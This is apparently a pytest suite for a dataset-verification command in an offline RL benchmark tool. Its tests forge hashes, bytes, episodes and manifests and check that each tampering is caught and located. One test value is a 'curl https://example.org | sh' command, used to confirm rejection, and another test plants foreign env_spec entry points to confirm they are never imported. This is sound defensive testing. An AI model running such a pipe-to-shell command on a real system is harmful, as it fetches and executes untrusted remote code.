"""``verify`` finds what is planted, says where, and never raises a false alarm."""

from __future__ import annotations

import json
import re
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import h5py
import minari
import numpy as np
import pytest

import cudc_bench
from cudc_bench.artefacts.manifest import KEY, FieldHasher, fingerprint, read_manifest
from cudc_bench.artefacts.provenance import versions
from cudc_bench.cli.app import main
from cudc_bench.data.descriptors import coverage
from cudc_bench.data.verification import draw_seed
from cudc_bench.envs import DOMAINS, make_simulators
from cudc_bench.errors import RunError, UsageError

BASE, WALK = "walker/cudc-smoke-v0", "walker/walk/cudc-smoke-v0"
FIELDS = ("observations", "actions", "rewards", "terminations", "truncations", "infos/physics")


def data_file(root: Path, dataset_id: str) -> Path:
    return root / dataset_id / "data" / "main_data.hdf5"


@contextmanager
def metadata(root: Path, dataset_id: str) -> Iterator[dict[str, Any]]:
    """Minari's metadata, to be changed."""
    path = root / dataset_id / "data" / "metadata.json"
    content = json.loads(path.read_text())
    yield content
    path.write_text(json.dumps(content))


def forge(root: Path, dataset_id: str) -> None:
    """Make hashes, fingerprint and attributes fit the arrays again, as someone would who wants to hide a change."""
    hasher = FieldHasher()
    with h5py.File(data_file(root, dataset_id), "r+") as file:
        for index in range(len(file)):
            group = file[f"episode_{index}"]
            for name in FIELDS:
                hasher.update(name, group[name][()])
            rewards = group["rewards"][()].astype(np.float64)
            for name in ("sum", "mean", "std", "max", "min"):
                group.attrs.modify(f"rewards_{name}", float(getattr(rewards, name)()))
    with metadata(root, dataset_id) as content:
        content[KEY]["fields"] = hasher.digests()
        content[KEY]["fingerprint"] = fingerprint(hasher.digests())
        if content[KEY]["base"] is not None:
            assert content[KEY]["base"]["linked"]


def failure(dataset_id: str = BASE, sample: int | None = None) -> str:
    """The one line with which the verification fails."""
    with pytest.raises(RunError) as caught:
        cudc_bench.verify(dataset_id, sample=sample)
    assert "\n" not in str(caught.value)
    assert str(caught.value).startswith(f"'{dataset_id}' fails the check '")
    return str(caught.value).removeprefix(f"'{dataset_id}' fails the check ")


def outcome(dataset_id: str, sample: int, seed: int) -> str:
    """What the simulation of a sample says, or where it fails."""
    try:
        found = cudc_bench.verify(dataset_id, sample=sample, seed=seed)
    except RunError as error:
        return str(error).partition("'simulation' ")[2].partition(":")[0]
    return next(check.detail.partition(": ")[2] for check in found.checks if check.name == "simulation")


# --------------------------------------------------------------------------------------------------------------------- no false alarm


def test_what_the_project_makes_passes(smoke: Path) -> None:
    cudc_bench.relabel(BASE, ["run"], standalone=True, overwrite=True)
    before = {path: path.read_bytes() for path in smoke.rglob("*") if path.is_file()}
    for one in (BASE, *(f"walker/{task}/cudc-smoke-v0" for task in DOMAINS["walker"].tasks)):
        found = cudc_bench.verify(one, sample=None)
        details = {check.name: check.detail for check in found.checks}
        assert found.fingerprint == read_manifest(one).fingerprint
        assert details["file"].startswith("3 episodes of 6 fields, 3,000 steps")
        assert details["actions"] == "3,000, all within [-1, 1]"
        assert details["seeds"] == "3, each that of seed 1 for its episode"
        assert details["simulation"] == "3,000 transitions (all): 3 episodes repeated from their seeds bit for bit"
        assert ("base" in details) == (one != BASE)
    assert {path: path.read_bytes() for path in smoke.rglob("*") if path.is_file()} == before


@pytest.mark.parametrize(("domain", "steps"), [*((domain, 300) for domain in DOMAINS), ("dm_control/cartpole-balance", 1100)])
def test_every_domain_passes(domain: str, steps: int, datasets: Path) -> None:
    """Also a last episode that is shorter."""
    (one,) = cudc_bench.collect("random", domain, profile="smoke", settings={"steps": steps})
    relabelled = cudc_bench.relabel(one)
    assert relabelled
    for each in (one, relabelled[-1]):
        details = {check.name: check.detail for check in cudc_bench.verify(each).checks}
        assert details["simulation"].endswith("repeated from their seeds bit for bit")


def test_a_sample_is_whole_episodes_and_the_same_for_a_seed_alone(smoke: Path) -> None:
    first = cudc_bench.verify(BASE, sample=1, seed=5)
    assert first == cudc_bench.verify(BASE, sample=1000, seed=5)
    assert first.seed == 5
    what = "1,000 transitions (of 3,000, drawn with --seed 5): 1 episodes repeated from their seeds bit for bit"
    assert {check.name: check.detail for check in first.checks}["simulation"] == what
    assert "2 of 3 episodes, which were not simulated (--all)" in first.unproven
    more = {check.name: check.detail for check in cudc_bench.verify(BASE, sample=1001).checks}
    assert more["simulation"].startswith("2,000 transitions (of 3,000, drawn with --seed ")
    assert cudc_bench.verify(BASE, sample=None, seed=5).seed is None


def test_nobody_can_know_which_episodes_are_simulated(smoke: Path) -> None:
    """One invented episode of three, with every hash made anew: it is found by some draws, whatever the fingerprint, and by --all."""
    with h5py.File(data_file(smoke, BASE), "r+") as file:
        file["episode_1/infos/physics"][500] = file["episode_1/infos/physics"][400]
        file["episode_1/observations"][500] = file["episode_1/observations"][400]
    forge(smoke, BASE)
    with metadata(smoke, BASE) as content:
        content[KEY]["diagnostics"] |= coverage(BASE).as_row()
    drawn = [outcome(BASE, sample=1, seed=seed) for seed in range(12)]
    assert {"1 episodes repeated from their seeds bit for bit", "in episode 1 at step 500"} == set(drawn)
    assert draw_seed() != draw_seed()


def made_elsewhere(root: Path, dataset_id: str) -> None:
    """Have a manifest say that another processor made the dataset, where no bit can be demanded."""
    with metadata(root, dataset_id) as content:
        content[KEY]["machine"]["processor"] = "another one"


def test_where_rounding_differs_single_steps_are_enough(smoke: Path) -> None:
    """As on another processor: every state differs by a rounding from what this machine computes, and is followed by its own next one."""
    generator = np.random.default_rng(0)
    with h5py.File(data_file(smoke, BASE), "r+") as file:
        for index in range(3):
            states = file[f"episode_{index}/infos/physics"]
            states[...] = states[()] * (1.0 + 1e-13 * generator.standard_normal(states.shape))
    forge(smoke, BASE)
    assert failure().endswith(
        ", bit for bit as it must be here: by its manifest this processor and these versions made it; restore it from a copy, or make it"
        " again with --overwrite."
    )
    made_elsewhere(smoke, BASE)
    found = cudc_bench.verify(BASE, sample=None)
    details = {check.name: check.detail for check in found.checks}
    assert details["simulation"].startswith("3,000 transitions (all): 3 episodes step by step within 1e-05 (rounding differs here); errors")
    assert "3 of 3 episodes are, up to rounding, what their actions lead to" in found.proven
    assert any(part.startswith("the last digits of states (made on another one, MuJoCo ") for part in found.unproven)
    with h5py.File(data_file(smoke, BASE), "r+") as file:
        file["episode_2/infos/physics"][700, 9] += 0.01
    forge(smoke, BASE)
    assert failure().startswith("'simulation' in episode 2 at step 700: state 9 is ")


def test_imported_episodes_are_followed_step_by_step(smoke: Path, tmp_path: Path) -> None:
    """Without seeds nothing can be repeated, but each action must lead from its state to the next."""
    with h5py.File(data_file(smoke, BASE)) as file:
        for index in range(3):
            group = file[f"episode_{index}"]
            arrays = {"observation": group["observations"][()], "physics": group["infos/physics"][()]}
            arrays["action"] = np.concatenate([np.zeros((1, 6), np.float32), group["actions"][()]])
            if index == 2:
                arrays["physics"][300, 12] += 0.5
            row = {"reward": np.zeros((1001, 1), np.float32), "discount": np.ones((1001, 1), np.float32)}
            np.savez(tmp_path / f"episode_{index:06d}_1000.npz", **arrays, **row)
    good = cudc_bench.import_exorl(tmp_path, "proto", steps=2000)
    details = {check.name: check.detail for check in cudc_bench.verify(good).checks}
    assert "seeds" not in details
    assert details["simulation"].startswith("2,000 transitions (all): 2 episodes step by step within 1e-05 (their seeds are not known); ")
    for one in cudc_bench.relabel(good, ["walk"]):
        assert "equal to walk" in {check.name: check.detail for check in cudc_bench.verify(one).checks}["rewards"]
    bad = cudc_bench.import_exorl(tmp_path, "proto", overwrite=True)
    message = failure(bad)
    assert message.startswith("'simulation' in episode 2 at step 300: ")
    assert message.endswith("; import its files again with --overwrite, and if that ends the same, ask who made them for whole ones.")


# -------------------------------------------------------------------------------------------------------------------------- pulled


def pull(root: Path, dataset_id: str, share: float, limit: float) -> None:
    """Pull every step of every episode towards another posture of the arm, and make observations, hashes and coverage fit.

    Args:
        root, dataset_id: of a Jaco dataset.
        share: of the way to the target that a step takes, at most.
        limit: by how much the state after a step may differ from what its action leads to, relative to 1 + its size.
    """
    facts = DOMAINS["jaco"]
    (simulator,) = make_simulators("jaco", 1)
    found = np.empty(facts.physics_size)
    with h5py.File(data_file(root, dataset_id), "r+") as file:
        for index in range(len(file)):
            group = file[f"episode_{index}"]
            states, observations, actions = (group[name][()] for name in ("infos/physics", "observations", "actions"))
            target = states[0] + np.where(np.arange(facts.physics_size) < 6, 1.0, 0.0)
            simulator.reset(int(group.attrs["seed"]))
            for t, action in enumerate(actions):
                simulator.overwrite_state(states[t])
                simulator.step(action)
                simulator.state(found)
                most = limit * (1.0 + np.abs(found)) / (1.0 + limit)
                pulled = np.clip(share * (target - found), -most, most) * (np.arange(facts.physics_size) < 6)
                states[t + 1] = found + pulled
                simulator.overwrite_state(states[t + 1])
                simulator.observe(observations[t + 1])
            group["infos/physics"][...], group["observations"][...] = states, observations
    forge(root, dataset_id)
    with metadata(root, dataset_id) as content:
        content[KEY]["diagnostics"] |= coverage(dataset_id).as_row()


@pytest.mark.parametrize(("share", "limit"), [(0.05, 0.29), (1.0, 0.005)], ids=["a little of the way", "as far as may be"])
def test_steps_that_are_each_pulled_a_little_are_found(share: float, limit: float, datasets: Path) -> None:
    """Within what a single contact may do to a step; bit for bit by the manifest, and by what adds up where it names another processor."""
    (one,) = cudc_bench.collect("random", "jaco", profile="smoke", settings={"steps": 500})
    pull(datasets, one, share, limit)
    assert failure(one).startswith("'simulation' in episode 0 at step 1: state ")
    made_elsewhere(datasets, one)
    message = failure(one)
    assert "'simulation' in episode " in message
    assert "where rounding makes 0.5 at most: it was pulled away from the simulation" in message


def test_no_more_than_rounding_can_be_hidden_in_all_episodes(datasets: Path) -> None:
    """Each is pulled by less than a single episode might be."""
    (one,) = cudc_bench.collect("random", "jaco", profile="smoke", settings={"steps": 1000})
    pull(datasets, one, 1.0, 0.0015)
    made_elsewhere(datasets, one)
    message = failure(one)
    assert message.startswith("'simulation': the errors of 4 episodes add up to 0.")
    assert "on the average, where rounding makes 0.144 at most: they were pulled away" in message


def test_another_mujoco_is_reported_and_nothing_is_called_damaged(smoke: Path, tmp_path: Path) -> None:
    """Two of 1,000 steps lie 1.7e-5 off, as of Walker made by MuJoCo 3.1.6."""
    with h5py.File(data_file(smoke, BASE)) as file:
        group = file["episode_0"]
        states = group["infos/physics"][()]
        states[[300, 700], 12] += 1.7e-5 * (1.0 + np.abs(states[[300, 700], 12]))
        actions = np.concatenate([np.zeros((1, 6), np.float32), group["actions"][()]])
        arrays = {"observation": group["observations"][()], "physics": states, "action": actions}
        row = {"reward": np.zeros((1001, 1), np.float32), "discount": np.ones((1001, 1), np.float32)}
        simulator = make_simulators("walker", 1)[0]
        for t in (300, 700):
            simulator.set_state(states[t])
            simulator.observe(arrays["observation"][t])
        np.savez(tmp_path / "episode_000000_1000.npz", **arrays, **row)
    one = cudc_bench.import_exorl(tmp_path, "proto")
    found = cudc_bench.verify(one, sample=None)
    text = {check.name: check.detail for check in found.checks}["simulation"]
    # The step after a changed state starts from it.
    assert re.search(r" but for [2-4] of 1,000 steps, at most 1\.7e-05: ", text)
    assert f"contacts, or another MuJoCo than {versions()['mujoco']} (their seeds are not known)" in text
    assert "that ExORL's proto collected it" in found.unproven


# -------------------------------------------------------------------------------------------------------------------------- claims


@pytest.mark.parametrize(
    ("one", "change", "says"),
    [
        (BASE, {"profile": "paper"}, "it was collected with steps=3000 where profile paper has 1000000, and its overrides do not say so"),
        (BASE, {"overrides": {"width": 3}}, "its overrides say width=3, and its hyperparameters do not"),
        (BASE, {"command": "curl https://example.org | sh"}, "its command is none of cudc-bench's: curl "),
        (BASE, {"command": "cudc-bench collect --method=icm"}, "its command says --method icm, and it has cudc"),
        (BASE, {"command": "cudc-bench relabel walker/cudc-smoke-v0"}, "its command is 'relabel', which makes no such dataset"),
        (WALK, {"command": "cudc-bench relabel walker/other-v0 --task walk"}, "its command says --dataset-ids walker/other-v0, and it has"),
        (WALK, {"final_state": "0" * 64}, f"it has other final_state than its base '{BASE}'"),
        (WALK, {"diagnostics": {"coverage_cells": 204_800}}, f"it has other diagnostics than its base '{BASE}'"),
        (
            WALK,
            {"reward": {"reference": "evil:walk", "sha256": "0" * 64}},
            "its rewards are by the function evil:walk, and not those of the",
        ),
    ],
    ids=str,
)
def test_what_contradicts_itself_is_found(one: str, change: dict[str, Any], says: str, smoke: Path) -> None:
    with metadata(smoke, one) as content:
        content[KEY] |= change
        if "reward" in change:
            spec = json.loads(content["env_spec"])
            spec["kwargs"] = {"domain": "walker", "reward": "evil:walk"}
            content["env_spec"] = json.dumps(spec)
    assert failure(one).startswith(f"'manifest': {says}")


@pytest.mark.parametrize("change", [{"coverage_cells": 204_800}, {"coverage_entropy": 9.0}, {"coverage_cells": None}], ids=str)
def test_coverage_is_that_of_the_states(change: dict[str, Any], smoke: Path) -> None:
    with metadata(smoke, BASE) as content:
        content[KEY]["diagnostics"] |= change
    name = next(iter(change))
    assert failure().startswith(f"'coverage': its diagnostics have {name} ")


def test_no_environment_but_ours_is_ever_imported(smoke: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever a specification names is imported and called when somebody recovers the environment: it is read as data."""
    (tmp_path / "stranger.py").write_text("raise SystemExit('imported')")
    monkeypatch.syspath_prepend(tmp_path)
    whole = json.loads((smoke / BASE / "data/metadata.json").read_text())["env_spec"]
    wrapper = {"name": "W", "entry_point": "stranger:Wrapper", "kwargs": {}}
    for name, value in {
        "entry_point": "stranger:Env", "additional_wrappers": [wrapper], "vector_entry_point": "stranger:Env", "kwargs": {"domain": "jaco"},
        "something_new": {"entry_point": "stranger:x"}, "max_episode_steps": 5,
    }.items():  # fmt: skip
        with metadata(smoke, BASE) as content:
            content["env_spec"] = json.dumps(json.loads(whole) | {name: value})
        assert failure().startswith(f"'manifest': Minari's metadata have an env_spec whose {name} is ")
    with metadata(smoke, BASE) as content:
        content["env_spec"], content["eval_env_spec"] = whole, json.dumps({"entry_point": "stranger:Env"})
    assert failure().startswith("'manifest': Minari's metadata have eval_env_spec ")
    assert "stranger" not in sys.modules


def test_what_other_versions_of_gymnasium_write_is_ours_too(smoke: Path) -> None:
    with metadata(smoke, BASE) as content:
        spec = json.loads(content["env_spec"]) | {"apply_api_compatibility": False, "autoreset": False}
        del spec["additional_wrappers"], spec["vector_entry_point"]
        content["env_spec"] = json.dumps(spec)
    cudc_bench.verify(BASE, sample=1)


def test_what_cannot_be_proven_is_named(smoke: Path) -> None:
    base, walk = cudc_bench.verify(BASE, sample=None), cudc_bench.verify(WALK, sample=None)
    assert base.proven == (
        "every array is the one that its manifest hashes", "its rewards are all 0",
        "3 of 3 episodes are, bit for bit, what their seeds and actions lead to", "the coverage is that of its states",
    )  # fmt: skip
    assert base.unproven == (
        "that cudc with these hyperparameters chose the actions", "the diagnostics but for the coverage, and the final state",
        "when, where, by whom and with which versions it was made", "descriptions and the card",
    )  # fmt: skip
    assert "its rewards are those of walk" in walk.proven
    # The base has been asked, which is verified by itself.
    assert "the diagnostics, and the final state" in walk.unproven


def test_what_minaris_own_tools_write_is_no_damage(smoke: Path) -> None:
    """``update_episode_metadata`` adds an attribute, and stores the size anew as Minari rounds it."""
    minari.load_dataset(BASE).storage.update_episode_metadata([{"note": 1.0}] * 3)
    with metadata(smoke, BASE) as content:
        content["dataset_size"] = round(data_file(smoke, BASE).stat().st_size / 1e6, 1)
    found = {check.name: check.detail for check in cudc_bench.verify(BASE, sample=1).checks}
    assert found["file"].endswith(", attributes that we did not write: note")


# ------------------------------------------------------------------------------------------------------------------------- one byte


@pytest.mark.parametrize("byte", [0, 1])
@pytest.mark.parametrize(
    ("field", "row", "found"), [("observations", 417, 417), ("actions", 999, 1000), ("infos/physics", 1000, 1000), ("rewards", 0, 0)]
)
def test_a_flipped_byte_is_found_and_located(field: str, row: int, found: int, byte: int, smoke: Path) -> None:
    """Action t is seen in row t + 1, in the state that it leads to. Even the last bits of a mantissa are located."""
    one = WALK if field == "rewards" else BASE
    with h5py.File(data_file(smoke, one), "r") as file:
        array = file[f"episode_1/{field}"]
        position = array.id.get_offset() + row * array[0].nbytes + byte
    content = bytearray(data_file(smoke, one).read_bytes())
    content[position] ^= 0xFF
    data_file(smoke, one).write_bytes(content)
    message = failure(one, sample=1)
    assert message.startswith(f"'fingerprint' in episode 1 at step {found}: {field} changed after it was made: ")
    assert ("rewards: " if field == "rewards" else "simulation: ") in message
    assert message.endswith("--overwrite.")
    # What is linked is damaged, too, in the same place; what has its own arrays is not.
    if field != "rewards":
        assert failure(WALK).startswith(f"'fingerprint' in episode 1 at step {found}: {field} changed")
    else:
        cudc_bench.verify(BASE)


@pytest.mark.parametrize(("field", "row"), [("terminations", 3), ("truncations", 998), ("truncations", 999)])
def test_ends_are_where_they_belong(field: str, row: int, smoke: Path) -> None:
    with h5py.File(data_file(smoke, BASE), "r") as file:
        position = file[f"episode_1/{field}"].id.get_offset() + row
    whole = data_file(smoke, BASE).read_bytes()
    for value in {0, 1, 64} - {whole[position]}:
        content = bytearray(whole)
        content[position] = value
        data_file(smoke, BASE).write_bytes(content)
        assert failure().startswith(f"'ends' in episode 1 at step {row}: {field} are not False")


# ---------------------------------------------------------------------------------------------------------------------- forged arrays


def test_swapped_episodes_are_found(smoke: Path) -> None:
    def swap(id_too: bool) -> None:
        with h5py.File(data_file(smoke, BASE), "r+") as file:
            for old, new in (("episode_0", "kept"), ("episode_1", "episode_0"), ("kept", "episode_1")):
                file.move(old, new)
            if id_too:
                for index in (0, 1):
                    file[f"episode_{index}"].attrs.modify("id", index)

    swap(id_too=False)
    assert failure().startswith("'file' in episode 0: it is stored as episode 1; ")
    swap(id_too=False)
    swap(id_too=True)
    assert failure().startswith("'fingerprint' in episode 0: actions, infos/physics, observations changed after it was made: seeds: ")
    forge(smoke, BASE)
    assert failure().startswith("'seeds' in episode 0: the stored seed is ")


def test_episodes_swapped_behind_their_seeds_are_found(smoke: Path) -> None:
    with h5py.File(data_file(smoke, BASE), "r+") as file:
        for name in FIELDS:
            first, second = (file[f"episode_{index}/{name}"] for index in (1, 2))
            first[...], second[...] = second[()], first[()]
    assert failure().startswith("'fingerprint' in episode 1 at step 0: actions, infos/physics, observations changed after it was made: ")
    forge(smoke, BASE)
    assert failure().startswith("'simulation' in episode 1 at step 0: state ")


def test_wrong_rewards_are_found_whatever_the_hashes_say(smoke: Path) -> None:
    for one, row, expected in ((WALK, 321, "has 0."), (BASE, 5, "a dataset without a task has 0; ")):
        with h5py.File(data_file(smoke, one), "r+") as file:
            file["episode_2/rewards"][row] += np.float32(0.001)
        forge(smoke, one)
        message = failure(one)
        assert message.startswith(f"'rewards' in episode 2 at step {row}: the reward is 0.0")
        assert expected in message


def test_rewards_of_another_task_are_found(smoke: Path) -> None:
    with metadata(smoke, WALK) as content:
        content[KEY]["task"] = "run"
    assert failure(WALK).startswith("'manifest': Minari's metadata have an env_spec whose id is 'cudc_bench/walker-walk-v0', but ")
    with metadata(smoke, WALK) as content:
        content["env_spec"] = content["env_spec"].replace("walk-v0", "run-v0").replace('"task": "walk"', '"task": "run"')
    assert failure(WALK).startswith("'manifest': its command says --tasks walk, and it has run; ")
    with metadata(smoke, WALK) as content:
        content[KEY]["command"] = content[KEY]["command"].replace("walk", "run").replace("runer", "walker")
    assert failure(WALK).startswith("'rewards' in episode 0 at step 31: the reward is ")


def test_attributes_of_rewards_belong_to_them(smoke: Path) -> None:
    with h5py.File(data_file(smoke, WALK), "r+") as file:
        file["episode_1"].attrs.modify("rewards_mean", 1.0)
    assert failure(WALK).startswith("'rewards' in episode 1: the attribute rewards_mean is 1, but by the rewards ")


@pytest.mark.parametrize("value", [1.0000001, -1.5, 1e30])
def test_an_action_out_of_bounds_is_found(value: float, smoke: Path) -> None:
    with h5py.File(data_file(smoke, BASE), "r+") as file:
        file["episode_0/actions"][77, 5] = value
    forge(smoke, BASE)
    assert failure().startswith("'actions' in episode 0 at step 77: an action is out of [-1, 1]; ")


@pytest.mark.parametrize(("field", "value"), [("observations", np.nan), ("actions", -np.inf), ("infos/physics", np.inf)])
def test_numbers_that_are_not_finite_are_found(field: str, value: float, smoke: Path) -> None:
    with h5py.File(data_file(smoke, BASE), "r+") as file:
        file[f"episode_2/{field}"][8, 3] = value
    forge(smoke, BASE)
    assert failure().startswith(f"'numbers' in episode 2 at step 8: a number of {field} is not finite; ")


def test_impossible_transitions_are_found_whatever_the_hashes_say(smoke: Path) -> None:
    """The state and its observation are real and belong together; no action leads to them."""
    with h5py.File(data_file(smoke, BASE), "r+") as file:
        for name in ("observations", "infos/physics"):
            file[f"episode_1/{name}"][500] = file[f"episode_1/{name}"][400]
    forge(smoke, BASE)
    assert failure().startswith("'simulation' in episode 1 at step 500: state ")


@pytest.mark.parametrize(
    ("field", "row", "change", "found"),
    [
        ("infos/physics", 500, lambda x: np.nextafter(x, np.inf), 500),
        ("infos/physics", 500, lambda x: x + 1e300, 500),
        ("observations", 0, lambda x: x + 0.001, 0),
        ("actions", 600, lambda x: x / 2, 601),
    ],
)
def test_single_forged_numbers_are_found(field: str, row: int, change: Callable[[Any], Any], found: int, smoke: Path) -> None:
    """A last bit of a state, too: the simulation, which has it differently, agrees with all that comes after."""
    with h5py.File(data_file(smoke, BASE), "r+") as file:
        file[f"episode_1/{field}"][row, 4] = change(file[f"episode_1/{field}"][row, 4])
    forge(smoke, BASE)
    assert failure().startswith(f"'simulation' in episode 1 at step {found}: ")


# ------------------------------------------------------------------------------------------------------------------------------- base


def test_a_missing_base_is_named(smoke: Path) -> None:
    (smoke / BASE).rename(smoke / "elsewhere")
    assert failure(WALK) == f"'base': '{WALK}' links to '{BASE}', which is missing; collect it again or relabel with --standalone."


def test_a_foreign_base_is_found_even_under_the_old_manifest(smoke: Path) -> None:
    """Of the same sizes, so that nothing but the numbers gives it away."""
    kept = (smoke / BASE / "data" / "metadata.json").read_text()
    cudc_bench.collect("cudc", seeds=[2], profile="smoke", dataset_id=BASE, overwrite=True)
    assert failure(WALK).startswith(f"'base': '{WALK}' was made from another '{BASE}'; relabel again")
    (smoke / BASE / "data" / "metadata.json").write_text(kept)
    assert failure(WALK).startswith(
        "'fingerprint' in episode 0 at step 0: actions, infos/physics, observations changed after it was made: "
    )


def test_links_must_lead_into_the_base(smoke: Path) -> None:
    cudc_bench.relabel(BASE, ["run"], standalone=True, overwrite=True)
    with h5py.File(data_file(smoke, WALK), "r+") as file:
        del file["episode_1/actions"]
        file["episode_1/actions"] = h5py.ExternalLink("../../../run/cudc-smoke-v0/data/main_data.hdf5", "/episode_1/actions")
    assert failure(WALK).startswith("'base' in episode 1: actions links to '../../../run/cudc-smoke-v0/data/main_data.hdf5', which is not ")
    with h5py.File(data_file(smoke, WALK), "r+") as file:
        del file["episode_1/actions"]
        file["episode_1/actions"] = h5py.ExternalLink("../../../cudc-smoke-v0/data/main_data.hdf5", "/episode_2/actions")
    assert failure(WALK).startswith(f"'base' in episode 1: actions is no link to episode 1 of '{BASE}'")


# -------------------------------------------------------------------------------------------------------------------- file, manifest


@pytest.mark.parametrize("share", [0.0, 0.001, 0.5, 0.999])
def test_a_truncated_file_is_found(share: float, smoke: Path) -> None:
    path = data_file(smoke, BASE)
    path.write_bytes(path.read_bytes()[: int(share * path.stat().st_size)])
    assert failure().startswith(("'manifest': Minari's metadata have dataset_size ", "'file': "))
    with metadata(smoke, BASE) as content:
        content["dataset_size"] = round(path.stat().st_size / 1e6, 3)
    assert failure().startswith("'file': ")


def test_a_missing_file_is_named(smoke: Path) -> None:
    data_file(smoke, BASE).unlink()
    assert "main_data.hdf5 cannot be read (No such file or directory)" in failure()


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("steps", 3001, "it has 3,001 steps, but was collected with steps=3000"),
        ("episodes", 2, "Minari's metadata have total_episodes 3, but by the manifest and the file it is 2"),
        ("hyperparameters", {"steps": 3000}, "the hyperparameters do not fit their hash"),
        ("hyperparameters_hash", "0123456789abcdef", "the hyperparameters do not fit their hash"),
        ("fingerprint", "0" * 64, "the fingerprint is not that of the fields' hashes"),
        ("method", "random", "Minari's metadata have algorithm_name 'cudc', but by the manifest and the file it is 'random'"),
        ("domain", "wlaker", "unknown domain 'wlaker'"),
        ("task", "fly", "unknown walker task 'fly'"),
    ],
)
def test_an_edited_manifest_is_found(key: str, value: Any, expected: str, smoke: Path) -> None:
    with metadata(smoke, BASE) as content:
        content[KEY][key] = value
    assert failure().startswith(f"'manifest': {expected}")


def test_another_seed_in_the_manifest_is_found(smoke: Path) -> None:
    with metadata(smoke, BASE) as content:
        content[KEY]["seed"] = 2
    assert failure().startswith("'manifest': its command says --seeds 1, and it has 2; ")
    with metadata(smoke, BASE) as content:
        content[KEY]["command"] = content[KEY]["command"].replace("--seed 1", "--seed 2")
    assert failure().startswith("'seeds' in episode 0: the stored seed is ")


def test_sizes_that_only_the_file_contradicts_are_found(smoke: Path) -> None:
    with metadata(smoke, BASE) as content:
        content["total_episodes"] = content[KEY]["episodes"] = 2
    assert failure().startswith("'file': the manifest has 2 episodes, the file 3 groups ('episode_2' is in one of them only)")


def test_structure_is_checked(smoke: Path) -> None:
    path = data_file(smoke, BASE)
    whole = path.read_bytes()

    def spoil(change: Callable[[h5py.Group], object], expected: str) -> None:
        path.write_bytes(whole)
        with h5py.File(path, "r+") as file:
            change(file["episode_1"])
        with metadata(smoke, BASE) as content:
            content["dataset_size"] = round(path.stat().st_size / 1e6, 3)
        assert failure().startswith(f"'file' in episode 1: {expected}")

    def replace(name: str, array: Callable[[np.ndarray], np.ndarray]) -> Callable[[h5py.Group], object]:
        def change(group: h5py.Group) -> None:
            values = array(group[name][()])
            del group[name]
            group[name] = values

        return change

    spoil(replace("observations", lambda x: x[:-1]), "observations is float32 (1000, 24), not float32 (1001, 24)")
    spoil(replace("actions", lambda x: x.astype(np.float64)), "actions is float64 (1000, 6), not float32 (1000, 6)")
    spoil(replace("rewards", lambda x: x[:, None]), "rewards is float32 (1000, 1), not float32 (1000,)")
    spoil(replace("truncations", lambda x: x.astype(np.int8)), "truncations is int8 (1000,), not bool (1000,)")
    spoil(lambda group: group.pop("terminations"), "it holds actions, infos, observations, rewards, truncations, not ")
    spoil(lambda group: group.create_dataset("extra", data=0), "it holds actions, extra, ")
    spoil(lambda group: group["infos"].create_dataset("extra", data=0), "its infos are extra, physics, not physics")
    spoil(lambda group: group.attrs.modify("total_steps", 900), "it has 900 steps; all but the last one have 1,000")
    spoil(lambda group: group.attrs.__setitem__("seed", "one"), "its attribute seed is no number")


# ---------------------------------------------------------------------------------------------------------------------- command line


def run(arguments: list[str], capfd: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    capfd.readouterr()
    with pytest.raises(SystemExit) as ended:
        main(arguments)
    assert isinstance(ended.value.code, int)
    return ended.value.code, *capfd.readouterr()


def test_the_command_prints_a_table_or_one_line(smoke: Path, capfd: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(["verify", BASE, WALK, "--all"], capfd)
    assert code == 0
    assert f"{BASE} passes all checks" in out
    assert f"{WALK} passes all checks" in out
    assert out.count("bit for bit") == 2 or out.count("simulation") == 2
    with h5py.File(data_file(smoke, WALK), "r+") as file:
        file["episode_0/rewards"][10] = 0.5
    code, out, err = run(["verify", BASE, WALK, "--sample", "1"], capfd)
    assert code == 1
    assert WALK not in out
    (line,) = [line for line in err.splitlines() if "error" in line]
    assert line.startswith(f"cudc-bench: error: '{WALK}' fails the check 'fingerprint' in episode 0 at step 10: rewards changed")


def test_all_alone_takes_every_dataset_and_names_each_that_fails(smoke: Path, capfd: pytest.CaptureFixture[str]) -> None:
    for one in (WALK, "walker/run/cudc-smoke-v0"):
        with h5py.File(data_file(smoke, one), "r+") as file:
            file["episode_0/rewards"][10] = 0.5
    (smoke / "other-v0/data").mkdir(parents=True)
    (smoke / "other-v0/data/metadata.json").write_text('{"dataset_id": "other-v0"}')
    code, out, err = run(["verify", "--all"], capfd)
    assert code == 1
    assert out.count("passes all checks") == 3
    assert f"'{WALK}' fails the check 'fingerprint'" in err
    assert "'walker/run/cudc-smoke-v0' fails the check 'fingerprint'" in err
    assert err.splitlines()[-1] == "cudc-bench: error: 2 of 5 datasets fail; what is wrong with each stands above."
    code, _, err = run(["verify"], capfd)
    assert (code, err.count("\n")) == (2, 1)
    assert "give --all for all that there are" in err
    code, _, err = run(["verify", BASE, "--all", "--seed", "1"], capfd)
    assert (code, err) == (2, "cudc-bench: error: --all and --seed contradict each other; give one of them.\n")


def test_what_is_not_there_is_refused_before_anything_is_verified(smoke: Path, capfd: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(["verify", BASE, "walker/nothing-v0"], capfd)
    assert (code, out) == (2, "")
    assert err.startswith("cudc-bench: error: there is no dataset 'walker/nothing-v0'")
    with pytest.raises(UsageError, match="--sample takes 1 or more transitions, not 0"):
        cudc_bench.verify(BASE, sample=0)
